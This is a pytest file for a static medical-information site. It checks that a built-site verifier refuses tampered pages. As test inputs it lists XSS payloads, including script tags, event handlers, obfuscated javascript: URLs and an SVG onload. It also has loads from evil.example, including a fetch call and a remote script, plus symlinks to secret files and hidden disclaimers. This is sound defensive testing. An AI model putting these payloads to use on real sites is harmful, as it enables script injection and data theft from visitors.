"""The built-site verification refuses what a page can run or load, on its own.

Each test breaks a copy of the real built site the way a crafted pull request
could have, with the sanitizer and the lint out of the way, and the
verification must name the file.
"""

from __future__ import annotations

import shutil
from pathlib import Path

import pytest

from helpers import BuiltSite, Verify
from sitekit import built_pages
from sitekit.checks import Context
from sitekit.html_policy import PolicyError, load_policy
from sitekit.report import Problem

pytestmark = pytest.mark.build

PAGE = "es/treatments/mesotherapy/index.html"
SOURCE = "docs/es/treatments/mesotherapy.md"


@pytest.fixture
def site(built_site: BuiltSite, tmp_path: Path) -> Path:
    target = tmp_path / "site"
    shutil.copytree(built_site.root, target, symlinks=True)
    return target


def inject(site: Path, before: str, html: str, page: str = PAGE) -> None:
    path = site / page
    text = path.read_text(encoding="utf-8")
    assert before in text, before
    path.write_text(text.replace(before, html + before, 1), encoding="utf-8")


def named(problems: list[Problem], code: str, path: str = f"site/{PAGE}") -> list[Problem]:
    found = [p for p in problems if p.code == code and p.path == path]
    assert found, f"no [{code}] problem for {path}; got: {problems}"
    return found


CONTENT = [
    ("script", "<script>window.pwned = 1</script>", "unsafe-html"),
    ("onerror", '<img src="x.png" onerror="window.pwned = 1">', "unsafe-html"),
    ("javascript-entities", '<a href="java&#x09;script&colon;window.pwned=1">x</a>', "unsafe-url"),
    ("javascript-backslashes", '<a href=" javascript:\\u0061lert(1)">x</a>', "unsafe-url"),
    ("srcset", '<img src="x.png" srcset="https://evil.example/x.png 2x">', "remote-content"),
    ("backslash-host", '<img src="\\\\evil.example\\x.png">', "remote-content"),
    ("style-url", '<p style="background:url(//evil.example/x.png)">x</p>', "remote-content"),
    ("theme-id", '<div id="__drawer">x</div>', "theme-id"),
    ("theme-id-search", '<input id="__search">', "theme-id"),
    ("embed", '<iframe src="../"></iframe>', "unsafe-html"),
]


@pytest.mark.parametrize(("html", "code"), [c[1:] for c in CONTENT], ids=[c[0] for c in CONTENT])
def test_hostile_content_in_the_article_is_refused(
    site: Path, verify: Verify, html: str, code: str
) -> None:
    inject(site, "</article>", html)
    [problem, *_] = named(verify(site), code)
    assert SOURCE in problem.hint  # the Markdown file to fix


THEME = [
    ("inline-script", "<script>fetch('https://evil.example/')</script>", "unsafe-html", "sha256"),
    ("remote-script", '<script src="https://evil.example/x.js"></script>', "unsafe-html", "ship"),
    ("local-script", '<script src="../../../evil.js"></script>', "unsafe-html", "ship"),
    ("stylesheet", '<link rel="stylesheet" href="//evil.example/x.css">', "remote-content", ""),
    ("preconnect", '<link rel="preconnect" href="https://evil.example">', "remote-content", ""),
    ("handler", '<a href="../" onmouseover="x()">x</a>', "unsafe-html", "onmouseover"),
    ("bad-json", '<script type="application/ld+json">{"a": </script>', "unsafe-html", "JSON"),
]


@pytest.mark.parametrize(
    ("html", "code", "says"), [t[1:] for t in THEME], ids=[t[0] for t in THEME]
)
def test_only_what_the_site_ships_runs_outside_the_content(
    site: Path, verify: Verify, html: str, code: str, says: str
) -> None:
    inject(site, "</head>", html)
    assert any(says in p.message for p in named(verify(site), code))


def test_markup_in_a_navigation_label_is_refused(site: Path, verify: Verify) -> None:
    inject(site, '<nav class="md-nav md-nav--primary"', '<img src="x" onerror="alert(1)">')
    named(verify(site), "unsafe-html")


DISCLAIMER = '<div class="admonition disclaimer" role="note">'


@pytest.mark.parametrize(
    ("replacement", "says"),
    [
        (f"<details><summary>Info</summary>{DISCLAIMER}", "the reader must open"),
        ('<div class="admonition disclaimer" role="note" hidden>', "'hidden'"),
        ('<div class="admonition disclaimer" role="note" style="display:none">', "style"),
        ('<div class="admonition disclaimer" role="note" aria-hidden="true">', "aria-hidden"),
        (f'<div style="opacity:0">{DISCLAIMER}', "style"),
        (f"<p>Before.</p>{DISCLAIMER}", "not the first block"),
    ],
    ids=["details", "hidden", "display-none", "aria-hidden", "transparent-wrapper", "late"],
)
def test_a_disclaimer_that_could_go_unseen_is_refused(
    site: Path, verify: Verify, replacement: str, says: str
) -> None:
    path = site / PAGE
    text = path.read_text(encoding="utf-8")
    assert DISCLAIMER in text
    path.write_text(text.replace(DISCLAIMER, replacement, 1), encoding="utf-8")
    problems = named(verify(site), "disclaimer")
    assert any(says in p.message for p in problems), problems


def test_a_disclaimer_moved_below_the_first_section_is_refused(site: Path, verify: Verify) -> None:
    path = site / PAGE
    text = path.read_text(encoding="utf-8")
    start = text.index(DISCLAIMER)
    end = text.index("</div>", start) + len("</div>")
    block, text = text[start:end], text[:start] + text[end:]
    text = text.replace("</h2>", "</h2>" + block, 1)
    path.write_text(text, encoding="utf-8")
    named(verify(site), "disclaimer")


@pytest.mark.parametrize(
    ("rel", "data"),
    [
        ("setup.exe", b"MZ"),
        ("es/treatments/diagram.svg", b"<svg onload='alert(1)'/>"),
        ("es/raw/index.html", b"<!doctype html><p>No theme here</p>"),
        ("assets/javascripts/extra.js", b"alert(1)"),
        ("assets/stylesheets/extra.css", b"body{}"),
        ("es/feed.xml", b'<html xmlns="http://www.w3.org/1999/xhtml"><script>x()</script></html>'),
        ("es/data.json", b"{}"),
        ("README", b"text"),
    ],
)
def test_only_allowed_files_are_published(
    site: Path, verify: Verify, rel: str, data: bytes
) -> None:
    target = site / rel
    target.parent.mkdir(parents=True, exist_ok=True)
    target.write_bytes(data)
    problems = [p for p in verify(site) if p.path == f"site/{rel}"]
    assert {p.code for p in problems} & {"site-file", "unsafe-html"}, problems


def test_symbolic_links_are_not_published(site: Path, verify: Verify, tmp_path: Path) -> None:
    secret = tmp_path / "secret.png"
    secret.write_bytes(b"x")
    (site / "es" / "leak.png").symlink_to(secret)
    (site / "es" / "folder").symlink_to(tmp_path)
    problems = verify(site)
    named(problems, "site-file", "site/es/leak.png")
    named(problems, "site-file", "site/es/folder")


def test_search_data_only_where_the_index_is_written(site: Path, verify: Verify) -> None:
    fragments = sorted((site / "pagefind" / "fragment").glob("*.pf_fragment"))
    assert fragments, "the build wrote no search index"
    (site / "es" / fragments[0].name).write_bytes(fragments[0].read_bytes())
    (site / "pagefind" / "extra.js").write_text("alert(1)", encoding="utf-8")
    problems = verify(site)
    named(problems, "site-file", f"site/es/{fragments[0].name}")
    named(problems, "site-file", "site/pagefind/extra.js")
    assert not [p for p in problems if p.path.startswith("site/pagefind/fragment/")]


def test_another_engine_s_theme_files_pass_only_that_engine_s_verification(
    site: Path, real_context: Context
) -> None:
    stylesheet = site / "assets" / "stylesheets" / "classic" / "main.0123abcd.min.css"
    stylesheet.parent.mkdir(parents=True)
    stylesheet.write_text("body{}", encoding="utf-8")
    refused = [p.location for p in built_pages.verify(real_context, site) if p.code == "site-file"]
    assert refused == ["site/assets/stylesheets/classic/main.0123abcd.min.css"]
    assert not list(built_pages.verify(real_context, site, engine="zensical"))
    with pytest.raises(PolicyError, match=r"'engines\.other' is missing"):
        load_policy(engine="other")
